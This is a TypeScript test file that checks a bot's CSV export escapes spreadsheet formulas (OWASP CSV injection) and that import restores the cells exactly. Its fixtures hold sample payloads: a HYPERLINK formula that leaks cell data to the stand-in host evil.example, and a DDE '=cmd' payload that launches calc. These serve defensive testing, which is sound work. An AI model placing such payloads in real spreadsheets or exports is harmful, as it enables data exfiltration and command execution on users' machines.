import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { spreadsheetCsv } from '../../bot/domain/csv/spreadsheet-csv.ts';
import { spreadsheetSafeCell, unquoteSpreadsheetCell } from '../../bot/domain/csv/spreadsheet-safe-cell.ts';
import { parseCell } from '../../bot/domain/matrix/cell.ts';
import { cleanCellText } from '../../bot/domain/matrix/cell-text.ts';
import { exportMatrix } from '../../bot/domain/matrix/matrix-export.ts';
import type { MatrixFormat } from '../../bot/domain/matrix/matrix-format.ts';
import { parseMatrix } from '../../bot/domain/matrix/matrix-import.ts';
import { assignRowIds, type Matrix, type MatrixRow } from '../../bot/domain/matrix/matrix.ts';
import { randomMatrix, seededRandom } from './matrix-generator.ts';

/** What a spreadsheet reads as the start of a formula (OWASP "CSV injection"; the full-width forms for Apple Numbers). */
const FORMULA_START = /^[=+\-@\t\r＝＋－＠]/;

function cellsOf(csv: string): string[][] {
  return parse(csv, { relax_column_count: true }) as string[][];
}

function reparse(matrix: Matrix, format: MatrixFormat, declared = true): Matrix {
  const text = exportMatrix(matrix, format);
  const result = parseMatrix(text, declared ? format : undefined);
  if (!result.ok) throw new Error(`export → import failed (${format}):\n${text}\n${JSON.stringify(result.errors, null, 1)}`);
  return result.matrix;
}

function matrixOf(rows: Array<Omit<MatrixRow, 'id' | 'internal' | 'msp'> & { internal: string; msp: string }>, extraColumns?: string[]): Matrix {
  return {
    rows: assignRowIds(rows.map((r) => ({ ...r, internal: parseCell(r.internal), msp: parseCell(r.msp) }))),
    ...(extraColumns ? { extraColumns } : {}),
  };
}

const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")';

/** Every column Baton writes carries a formula, plus cells that genuinely start with an apostrophe. */
const hostile = matrixOf(
  [
    {
      function: HYPERLINK,
      internal: '-',
      msp: '+1 after hours',
      aliases: ["=cmd|' /C calc'!A0", 'plain alias'],
      internalContact: '@Dana Ortiz',
      mspContact: '+44 20 7946 0000',
      escalationContact: '-Max Weber',
      notes: '=1+1',
      extra: { '=Cost centre': '-CC-10', Priority: '@high' },
    },
    { function: "'=already neutralised by hand", internal: '@SUM(1,1)', msp: '✓', aliases: ["''+two quotes"], notes: "'", extra: { '=Cost centre': "'-", Priority: '' } },
    { function: "'plain apostrophe", internal: '—', msp: "'-", aliases: [], notes: "It's fine; '=not at the start", extra: { '=Cost centre': "''", Priority: "'''@three" } },
    { function: '-', internal: '--', msp: 'x', aliases: ['-', '+', '@'], notes: 'a;=1+1 then, a comma', extra: { '=Cost centre': '', Priority: '=' } },
  ],
  ['=Cost centre', 'Priority'],
);

describe('the spreadsheet-safe cell rule', () => {
  it('prefixes exactly the cells that start (behind any apostrophes) with = + - @ TAB or CR', () => {
    const cases: Array<[string, string]> = [
      ['=1+1', "'=1+1"],
      ['+1', "'+1"],
      ['-', "'-"],
      ['@SUM(A1)', "'@SUM(A1)"],
      ['\t=1', "'\t=1"],
      ['\r=1', "'\r=1"],
      ["'=1", "''=1"],
      ["'''-", "''''-"],
      ["'", "'"],
      ["'a", "'a"],
      ['', ''],
      [' =1', ' =1'],
      ['a=1', 'a=1'],
      ['✓', '✓'],
      ['＝1+1', "'＝1+1"],
      ["'－", "''－"],
    ];
    for (const [text, safe] of cases) {
      expect(spreadsheetSafeCell(text), JSON.stringify(text)).toBe(safe);
      expect(unquoteSpreadsheetCell(safe), JSON.stringify(safe)).toBe(text);
    }
  });

  const formulaish = fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '\n', '＝', '＠', 'a', ' ', '"', ',', ';') });

  it('is undone exactly by the reader, for any text', () => {
    fc.assert(fc.property(fc.oneof(formulaish, fc.string()), (text) => unquoteSpreadsheetCell(spreadsheetSafeCell(text)) === text));
  });

  it('never writes a cell a spreadsheet reads as a formula', () => {
    fc.assert(fc.property(fc.oneof(formulaish, fc.string()), (text) => !FORMULA_START.test(spreadsheetSafeCell(text))));
  });

  it('writes CSV whose cells read back to the records given', () => {
    fc.assert(
      fc.property(fc.array(fc.array(fc.oneof(formulaish, fc.string()), { minLength: 1, maxLength: 4 }), { minLength: 1, maxLength: 4 }), (records) => {
        const back = parse(spreadsheetCsv(records), { relax_column_count: true }) as string[][];
        return back.every((r) => r.every((cell) => !FORMULA_START.test(cell))) && JSON.stringify(back.map((r) => r.map(unquoteSpreadsheetCell))) === JSON.stringify(records);
      }),
    );
  });
});

describe('CSV export neutralises formulas (OWASP CSV injection)', () => {
  it('writes no cell a spreadsheet would run: functions, cells, aliases, contacts, notes, extra columns and their names', () => {
    const csv = exportMatrix(hostile, 'csv');
    const cells = cellsOf(csv);
    const dangerous = cells.flat().filter((cell) => FORMULA_START.test(cell));
    expect(dangerous).toEqual([]);
    expect(cells[0]).toEqual(['Function', 'Internal', 'MSP', 'Aliases', 'Internal contact', 'MSP contact', 'Escalation contact', 'Notes', "'=Cost centre", 'Priority']);
    expect(cells[1]).toEqual([
      `'${HYPERLINK}`,
      "'-",
      "'+1 after hours",
      "'=cmd|' /C calc'!A0; plain alias",
      "'@Dana Ortiz",
      "'+44 20 7946 0000",
      "'-Max Weber",
      "'=1+1",
      "'-CC-10",
      "'@high",
    ]);
  });

  it('adds one more apostrophe to a cell that already starts with apostrophes before a formula character, and none to others', () => {
    const cells = cellsOf(exportMatrix(hostile, 'csv'));
    expect(cells[2]!.slice(0, 4)).toEqual(["''=already neutralised by hand", "'@SUM(1,1)", '✓', "'''+two quotes"]);
    expect(cells[2]![7]).toBe("'"); // an apostrophe alone is not a formula
    expect(cells[2]![8]).toBe("''-");
    expect(cells[3]!.slice(0, 3)).toEqual(["'plain apostrophe", '—', "''-"]);
    expect(cells[3]![8]).toBe("''");
    expect(cells[3]![9]).toBe("''''@three");
  });

  it('changes nothing else in the file (ordinary cells, quoting, the header)', () => {
    const csv = exportMatrix(hostile, 'csv');
    expect(csv.split('\n')[0]).toBe("Function,Internal,MSP,Aliases,Internal contact,MSP contact,Escalation contact,Notes,'=Cost centre,Priority");
    expect(csv).toContain(',"a;=1+1 then, a comma",');
    expect(csv).toContain("\n'-,'--,x,'-; +; @,");
  });

  it('leaves the Markdown export as it was (it is not opened by spreadsheets, and its import undoes nothing)', () => {
    const md = exportMatrix(hostile, 'md');
    expect(md).toContain(`| ${HYPERLINK} | - | +1 after hours |`);
    expect(md).not.toContain(`'${HYPERLINK}`);
    expect(md).toContain('| =1+1 |');
  });
});

describe('CSV import undoes exactly what the export added', () => {
  it('round-trips the hostile matrix in both formats, declared and detected', () => {
    for (const format of ['csv', 'md'] as const) {
      expect(reparse(hostile, format), format).toEqual(hostile);
      expect(reparse(hostile, format, false), `${format}, detected`).toEqual(hostile);
    }
  });

  it('still reads a neutralised "-" as "does not own", and the apostrophe cells as written', () => {
    const [first, second, third, fourth] = reparse(hostile, 'csv').rows;
    expect(first!.internal).toEqual({ raw: '-', kind: 'none' });
    expect(fourth!.function).toBe('-');
    expect(fourth!.internal).toEqual({ raw: '--', kind: 'none' });
    expect(second!.function).toBe("'=already neutralised by hand");
    expect(third!.msp).toEqual({ raw: "'-", kind: 'qualified' });
    expect(third!.function).toBe("'plain apostrophe");
  });

  it('reads a hand-written neutralised cell back to its text ("\'-" is "-", "\'=x" is "=x")', () => {
    const result = parseMatrix("Function,Internal,MSP,Notes\n'=Backups,'-,✓,'@ops\n", 'csv');
    if (!result.ok) throw new Error(JSON.stringify(result.errors));
    expect(result.matrix.rows[0]).toMatchObject({ function: '=Backups', internal: { raw: '-', kind: 'none' }, notes: '@ops' });
  });

  it('holds for 300 generated matrices whose texts start with formula characters and apostrophes', () => {
    const random = seededRandom(20261124);
    for (let i = 0; i < 300; i++) {
      const generated = hostileVariant(randomMatrix(random, { maxRows: 12 }), random);
      for (const format of ['csv', 'md'] as const) {
        expect(reparse(generated, format), `matrix #${i} as ${format}`).toEqual(generated);
        expect(reparse(generated, format, false), `matrix #${i} as ${format}, detected`).toEqual(generated);
      }
      const dangerous = cellsOf(exportMatrix(generated, 'csv'))
        .flat()
        .filter((cell) => FORMULA_START.test(cell));
      expect(dangerous, `matrix #${i}`).toEqual([]);
    }
  });

  it('holds for ordinary generated matrices too (nothing else changes)', () => {
    const random = seededRandom(99);
    for (let i = 0; i < 200; i++) {
      const generated = randomMatrix(random);
      expect(reparse(generated, 'csv'), `matrix #${i}`).toEqual(generated);
    }
  });
});

const PREFIXES = ['=', '+', '-', '@', '＝', '－', "'", "'=", "''+", "'-", "'''@", "'＠", '=-', '@@', "'a"];

/** The matrix with a formula character or apostrophes put in front of many of its texts (kept canonical). */
function hostileVariant(matrix: Matrix, random: () => number): Matrix {
  const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)]!;
  const spoil = (text: string): string => (random() < 0.5 ? cleanCellText(pick(PREFIXES) + text) : text);
  const seen = new Set<string>();
  const rows = matrix.rows.map(({ id: _id, ...row }) => {
    let fn = spoil(row.function);
    if (seen.has(fn.toLowerCase())) fn = row.function;
    if (seen.has(fn.toLowerCase())) fn = `${fn} ${seen.size}`;
    seen.add(fn.toLowerCase());
    const optional = (value: string | undefined): string | undefined => (value === undefined ? undefined : spoil(value));
    const spoiled: Omit<MatrixRow, 'id'> = {
      ...row,
      function: fn,
      internal: parseCell(spoil(row.internal.raw)),
      msp: parseCell(spoil(row.msp.raw)),
      aliases: row.aliases.map((a) => spoil(a)),
      ...(row.internalContact !== undefined ? { internalContact: optional(row.internalContact)! } : {}),
      ...(row.mspContact !== undefined ? { mspContact: optional(row.mspContact)! } : {}),
      ...(row.escalationContact !== undefined ? { escalationContact: optional(row.escalationContact)! } : {}),
      ...(row.notes !== undefined ? { notes: optional(row.notes)! } : {}),
      ...(row.extra ? { extra: Object.fromEntries(Object.entries(row.extra).map(([k, v]) => [k, v === '' ? v : spoil(v)])) } : {}),
    };
    return spoiled;
  });
  return { rows: assignRowIds(rows), ...(matrix.extraColumns ? { extraColumns: matrix.extraColumns } : {}) };
}
